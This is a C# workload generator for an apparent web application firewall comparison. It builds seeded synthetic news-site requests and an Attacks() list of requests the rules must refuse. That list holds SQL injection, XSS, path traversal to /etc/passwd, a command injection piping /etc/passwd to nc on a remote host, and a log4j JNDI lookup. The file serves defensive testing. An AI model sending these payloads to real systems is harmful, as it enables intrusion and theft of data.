using System.Globalization;
using System.Text;

namespace Karaula.Waf.Comparison;

/// <summary>Requests of readers and editors, written by a generator with a fixed seed, and attacks that show that the rules work.</summary>
internal static class Workload
{
    private const string Browser =
        "Host: vijesti.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
        + "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: sr-ME,sr;q=0.8,en;q=0.5\r\n"
        + "Accept-Encoding: gzip, deflate, br\r\nCookie: session=4f9d1b7a22c04e6d; consent=yes; theme=dark\r\nReferer: https://vijesti.example/\r\n";

    private static readonly string[] Words =
        [.. ("the government published new figures about roads and schools while readers asked when trains would run again because the bridge near the river "
            + "is closed until spring and nobody knows how long repairs will take said the mayor on monday evening after a long session of the council which "
            + "ended without a vote although most members had come prepared to decide vlada je objavila nove podatke o putevima i skolama dok su citaoci pitali "
            + "kada ce vozovi ponovo saobracati jer je most kod rijeke zatvoren do proljeca").Split(' ')];

    /// <summary>The four requests whose cost is stated.</summary>
    public static IEnumerable<(string Name, byte[] Request)> Stated()
    {
        var random = new Random(20170217);
        yield return ("get", Get("/vijesti/2017/02/17/clanak?strana=2&izvor=naslovna"));
        yield return ("form", Form(random, 2048));
        yield return ("json", Post("/api/uvoz", "application/json", Json(random, 468, 22 * 1024)));
        yield return ("article", Post("/urednik/clanak", "application/x-www-form-urlencoded", $"naslov={Text(random, 60)}&tekst={Text(random, 20 * 1024)}".Replace(' ', '+')));
    }

    /// <summary>A site's day, in small: pages, parts of pages, searches, forms, comments, uploads, an API.</summary>
    public static IEnumerable<byte[]> Corpus(int count)
    {
        var random = new Random(1917);
        for (var i = 0; i < count; i++)
        {
            yield return random.Next(100) switch
            {
                < 30 => Get($"/vijesti/{random.Next(2010, 2018)}/{Word(random)}-{Word(random)}-{Word(random)}"),
                < 60 => Get($"/static/{Word(random)}.{random.Next():x8}.{(random.Next(2) == 0 ? "css" : "js")}?v={random.Next(1000)}"),
                < 75 => Get($"/slike/{random.Next():x}/{random.Next(200, 1600)}x{random.Next(200, 900)}.jpg"),
                < 82 => Get($"/pretraga?q={Uri.EscapeDataString(Text(random, random.Next(5, 60)))}&strana={random.Next(1, 9)}"),
                < 88 => Get($"/api/v1/items?limit={random.Next(100)}&offset={random.Next(10_000)}&sort=-{Word(random)}&fields={Word(random)},{Word(random)}"),
                < 94 => Form(random, random.Next(60, 900)),
                < 97 => Post("/api/v1/dogadjaji", "application/json", Json(random, random.Next(2, 20), 400)),
                _ => Multipart(random),
            };
        }
    }

    /// <summary>Requests that must be refused.</summary>
    public static IEnumerable<(string Name, byte[] Request)> Attacks()
    {
        yield return ("sqli", Get("/p?id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--%20"));
        yield return ("xss", Get("/p?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"));
        yield return ("lfi", Get("/p?f=../../../../etc/passwd"));
        yield return ("rce", Get("/p?c=;cat%20/etc/passwd%7Cnc%2010.0.0.1%204444"));
        yield return ("log4j", Get("/p?x=$%7Bjndi:ldap://203.0.113.9/a%7D"));
        yield return ("form", Post("/login", "application/x-www-form-urlencoded", "user=admin%27+OR+1%3D1--+&pass=x"));
        yield return ("json", Post("/api", "application/json", "{\"q\":\"<img src=x onerror=alert(1)>\"}"));
    }

    private static byte[] Get(string target) => Encoding.Latin1.GetBytes($"GET {target} HTTP/1.1\r\n{Browser}\r\n");

    private static byte[] Post(string target, string type, string body) => Encoding.Latin1.GetBytes(
        string.Create(CultureInfo.InvariantCulture, $"POST {target} HTTP/1.1\r\n{Browser}Content-Type: {type}\r\nContent-Length: {body.Length}\r\n\r\n{body}"));

    private static byte[] Form(Random random, int length)
    {
        var body = new StringBuilder("ime=").Append(Word(random)).Append("&email=").Append(Word(random)).Append("%40primjer.example");
        for (var i = 0; body.Length < length; i++)
            body.Append(CultureInfo.InvariantCulture, $"&polje{i}=").Append(Text(random, Math.Min(120, length)).Replace(' ', '+'));
        return Post("/kontakt", "application/x-www-form-urlencoded", body.ToString());
    }

    private static string Json(Random random, int values, int length)
    {
        var each = Math.Max(4, (length / values) - 16);
        var body = new StringBuilder("{\"redovi\":[");
        for (var i = 0; i < values; i++)
        {
            body.Append(i == 0 ? "" : ",").Append(CultureInfo.InvariantCulture, $"{{\"k{i}\":");
            if (i % 4 == 0)
                body.Append(random.Next());
            else
                body.Append('"').Append(Text(random, each)).Append('"');
            body.Append('}');
        }

        return body.Append("]}").ToString();
    }

    private static byte[] Multipart(Random random)
    {
        var body = "--granica71\r\nContent-Disposition: form-data; name=\"opis\"\r\n\r\n" + Text(random, 200)
            + $"\r\n--granica71\r\nContent-Disposition: form-data; name=\"slika\"; filename=\"{Word(random)}.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"
            + string.Concat(Enumerable.Range(0, 1500).Select(_ => (char)random.Next(256))) + "\r\n--granica71--\r\n";
        return Post("/posalji", "multipart/form-data; boundary=granica71", body);
    }

    private static string Word(Random random) => Words[random.Next(Words.Length)];

    private static string Text(Random random, int length)
    {
        var text = new StringBuilder();
        while (text.Length < length)
            text.Append(Word(random)).Append(random.Next(12) == 0 ? ". " : " ");
        return text.ToString(0, length).TrimEnd();
    }
}
